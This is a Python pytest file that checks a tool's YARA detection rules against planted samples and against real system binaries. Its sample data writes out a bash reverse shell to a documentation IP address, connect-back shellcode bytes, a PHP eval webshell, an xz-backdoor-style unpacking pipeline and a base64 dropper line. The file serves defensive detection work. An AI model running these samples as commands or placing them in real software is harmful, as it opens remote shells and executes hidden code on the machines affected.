"""Our YARA rules: each meets what it is for and nothing of this machine; an organisation's folder is read beside them."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from suture.errors import BadInputError
from suture.sourcing.analysis.binary import BinarySettings, examine
from suture.sourcing.analysis.rules import OWN_RULES, scan
from tests.unit.sourcing.analysis import planted

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(100)
SAMPLES = {
    "reverse_shell_one_liner": b"bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "shellcode_connects_back_x86_64": ELF + b"\x6a\x29\x58\x99\x0f\x05"
    + b"\x6a\x21\x58\x0f\x05\x6a\x3b\x58\x99\x0f\x05/bin//sh",
    "preload_rootkit": ELF + b"/etc/ld.so.preload\0dlsym\0readdir\0/proc/net/tcp\0authorized_keys\0/bin/sh\0accept\0",
    "sshd_key_hook": ELF + b"RSA_public_decrypt\0/usr/sbin/sshd\0LD_BIND_NOT\0",
    "miner": b"stratum+tcp://pool.test:3333 --donate-level 1",
    "packed_by_upx": ELF + b"UPX!" + bytes(100) + b"$Info: This file is packed with the UPX executable packer",
    "webshell": b"<?php @eval($_POST['x']); ?>",
    "unwrapped_by_a_pipeline": b"tail -c +31233 | tr \"\\114-\\321\" \"\\0-\\377\" | xz -F raw --lzma1 -dc",
    "program_in_base64": b"echo f0VMRgIBAQAAAA | base64 -d > /tmp/x; chmod +x /tmp/x",
    "hidden_service_address": ELF + b" " + b"b" * 56 + b".onion",
}  # fmt: skip
RULES = re.findall(r"^rule (\w+)", "\n".join(p.read_text("utf-8") for p in OWN_RULES.glob("*.yar")), re.MULTILINE)


@pytest.mark.parametrize("rule", RULES)
def test_a_rule_meets_what_it_is_for(rule: str) -> None:
    found = scan(SAMPLES[rule])
    assert [match.rule for match in found] == [rule]
    assert found[0].description
    assert found[0].places
    assert found[0].hint == (rule == "hidden_service_address")


def test_no_rule_meets_the_programs_of_this_machine() -> None:
    programs = sorted(path for path in Path("/usr/bin").iterdir() if path.is_file() and path.stat().st_size < 400_000)[
        :150
    ]
    assert len(programs) > 50
    assert {path.name: scan(path.read_bytes()) for path in programs if scan(path.read_bytes())} == {}


def test_an_organisations_rules_are_read_beside_ours(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text('rule ours { strings: $a = "forbidden word" condition: $a }')
    subject = planted.update(tmp_path, {"usr/bin/x": b"#!/bin/sh\n"}, {"usr/bin/x": b"#!/bin/sh\n# forbidden word\n"})
    found = examine(subject, BinarySettings((OWN_RULES, tmp_path), tools=False))
    assert [(c.kind, c.details["rule"]) for c in found.concerns] == [("rule_match", "ours")]


@pytest.mark.parametrize("text", ["rule broken {", None])
def test_a_folder_without_valid_rules_is_an_error_and_no_silence(tmp_path: Path, text: str | None) -> None:
    if text is not None:
        (tmp_path / "own.yar").write_text(text)
    with pytest.raises(BadInputError):
        scan(b"x", (OWN_RULES, tmp_path))
